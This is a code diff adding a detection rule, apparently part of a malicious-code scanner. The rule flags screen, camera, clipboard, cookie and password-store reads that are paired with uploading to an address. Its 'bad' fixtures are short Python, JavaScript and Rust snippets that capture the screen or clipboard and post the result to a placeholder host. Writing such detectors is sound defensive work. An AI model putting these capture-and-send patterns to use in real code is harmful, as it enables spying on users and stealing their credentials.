@@ -670,6 +670,90 @@ RULES = (
         },
     ),
     Rule(
+        "watched-and-sent",
+        "theft",
+        MALICE,
+        HIGH,
+        LIKELY,
+        200,
+        "Screen, camera, clipboard or passwords are taken in a file that sends to its own address",
+        "What the user sees and copies can be sent away.",
+        "Do not run it, unless sending it is what the user asked for.",
+        {
+            "python": (
+                *(
+                    f"{taken} @with-uploading @with-address"
+                    for taken in (
+                        "PIL.ImageGrab.grab()",
+                        "mss.mss()",
+                        "pyautogui.screenshot()",
+                        "cv2.VideoCapture()",
+                        "sounddevice.rec()",
+                        "pyaudio.PyAudio()",
+                        "pyperclip.paste()",
+                        "win32clipboard.GetClipboardData()",
+                        ".clipboard_get()",
+                        "win32crypt.CryptUnprotectData()",
+                        "keyring.get_password()",
+                    )
+                ),
+            ),
+            "javascript": (
+                *(
+                    f"{taken} @with-uploading @with-address"
+                    for taken in (
+                        "screenshot-desktop()",
+                        "clipboardy.read()",
+                        "clipboardy.readSync()",
+                        "electron.clipboard.readText()",
+                        "electron.desktopCapturer.getSources()",
+                        "navigator.clipboard.readText()",
+                        "navigator.mediaDevices.getDisplayMedia()",
+                        "keytar.findCredentials()",
+                        "keytar.getPassword()",
+                    )
+                ),
+                "document.cookie @with-beacon @with-address",
+                r"string /input\[type=.?password/ @with-beacon @with-address",
+                r"string /input\[type=.?password/ @with-uploading @with-address",
+            ),
+            "rust": (
+                *(
+                    f"{taken} @with-uploading @with-address"
+                    for taken in (
+                        ".get_text()",
+                        "cli_clipboard.get_contents()",
+                        "screenshots.Screen.all()",
+                        "xcap.Monitor.all()",
+                        "rdev.listen()",
+                        "keyring.Entry.new()",
+                    )
+                ),
+            ),
+        },
+        bad={
+            "python": (
+                "import mss, requests\ntake = mss.mss()\n"
+                "def give(made):\n    requests.post('https://a.invalid', data=made)\n",
+            ),
+            "javascript": (
+                "const shot = require('screenshot-desktop');\nconst job = shot().then(keep);\n"
+                "const give = (made) => fetch('https://a.invalid', { method: 'POST', body: made });\n",
+            ),
+            "rust": (
+                "fn main() { let text = cli_clipboard::get_contents(); "
+                'ureq::post("https://a.invalid").call(); }\n',
+            ),
+        },
+        good={
+            "python": (
+                "import mss, requests\nmss.mss()\nrequests.get('https://a.invalid')\n",
+            ),
+            "javascript": ("require('screenshot-desktop')().then(keep);\n",),
+            "rust": ("fn main() { let text = cli_clipboard::get_contents(); }\n",),
+        },
+    ),
+    Rule(
         "seed-phrases-sought",
         "theft",
         MALICE,
